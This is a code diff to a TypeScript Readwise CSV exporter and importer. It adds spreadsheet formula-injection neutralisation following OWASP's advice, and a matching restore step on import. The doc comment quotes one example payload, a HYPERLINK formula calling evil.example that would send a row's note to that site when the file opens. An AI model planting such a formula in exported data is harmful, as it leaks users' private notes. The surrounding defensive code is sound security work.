@@ -18,8 +18,16 @@
  * every line ends with CRLF. It starts with a UTF-8 byte order mark (U+FEFF; encode the string
  * as UTF-8) so Excel reads « é », emoji and ’ as UTF-8 rather than the system code page.
  *
- * Text is exported as it is: a passage starting with `=` is not defused with a leading `'`
- * (the usual spreadsheet-formula guard), because Readwise would keep the quote mark.
+ * Cells a spreadsheet would run as a formula are neutralised, as OWASP advises ("CSV
+ * Injection"): page text is hostile, and a title `=HYPERLINK("https://evil.example/?"&E2,"x")`
+ * would send the row's Note to that site when the file is opened. A cell starting with `=`, `+`,
+ * `-`, `@`, tab or CR (OWASP's list), or with whitespace and then `=`, `+`, `-` or `@` (what a
+ * trimming importer would see), is written quoted with a `'` first: `"'=HYPERLINK(…)"`, and a
+ * note `-5% de marge` as `'-5% de marge`. Readwise imports such a file as before, but shows the
+ * `'`. Verbatim's own import removes it, so text comes back exactly; to tell it from a `'` of the
+ * text itself, a cell that already starts with `'`s and then a formula start gets one more `'`
+ * too, and the reader removes one `'` only from cells of that shape (`'Tis` stays `'Tis`). OWASP
+ * names no other characters: full-width `＝` and other look-alikes are written as they are.
  */
 import * as v from 'valibot';
 import type { Article, Note, TextPositionSelector, TextQuoteSelector } from '../model';
@@ -59,7 +67,7 @@ export function toReadwiseCsv(articles: readonly Article[], notes: readonly Note
         position ? String(position.start) : '',
         readwiseDate(note.createdAt),
       ]
-        .map(csvField)
+        .map(csvCell)
         .join(','),
     );
   }
@@ -71,6 +79,28 @@ const oneLine = (text: string) => text.replace(/\s+/gu, ' ').trim();
 /** One field, quoted when RFC 4180 requires it. */
 export function csvField(value: string): string {
   return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
+}
+
+/**
+ * A cell that starts, after any `'`, with what a spreadsheet reads as a formula (OWASP's list), or
+ * with whitespace and then a formula sign, which an importer that trims whitespace would run.
+ */
+const FORMULA_START = /^'*(?:[\t\r]|\s*[=+\-@])/;
+
+/** The cell with a leading `'` when a spreadsheet would read it as a formula (see the module doc). */
+export function neutralizeCell(value: string): string {
+  return FORMULA_START.test(value) ? `'${value}` : value;
+}
+
+/** `neutralizeCell` undone: its output, and any other cell, back to the text it was made from. */
+export function restoreCell(value: string): string {
+  return value.startsWith("'") && FORMULA_START.test(value) ? value.slice(1) : value;
+}
+
+/** One field of an exported row: neutralised against formulas, and then always quoted (OWASP). */
+export function csvCell(value: string): string {
+  const safe = neutralizeCell(value);
+  return safe === value ? csvField(value) : `"${safe.replace(/"/g, '""')}"`;
 }
 
 /** Tags as Readwise's inline `.tag`, then the note. */
@@ -191,7 +221,7 @@ const HEADERS: Record<string, Field> = {
 /**
  * Reads a Readwise CSV: a header row naming the columns (any order, any case; only `Highlight`
  * is required; unknown columns are ignored), then one highlight per row. Blank rows are skipped.
- * Throws a FormatError naming the row for a missing Highlight column or an empty highlight.
+ * A cell neutralised against formulas gets its text back (`restoreCell`). Throws a FormatError naming the row for a missing Highlight column or an empty highlight.
  */
 export function parseReadwiseCsv(text: string): ReadwiseRow[] {
   if (typeof text !== 'string' || !text.replace(/^\uFEFF/, '').trim()) throw new FormatError('the file is empty');
@@ -206,7 +236,7 @@ export function parseReadwiseCsv(text: string): ReadwiseRow[] {
     if (fields.every((f) => !f.trim())) return;
     const row: ReadwiseRow = { row: rowNumber, highlight: '' };
     columns.forEach((column, i) => {
-      const value = fields[i];
+      const value = fields[i] === undefined ? undefined : restoreCell(fields[i]!);
       if (column && value !== undefined && row[column] === undefined) row[column] = value;
       else if (column === 'highlight' && value !== undefined && !row.highlight) row.highlight = value;
     });
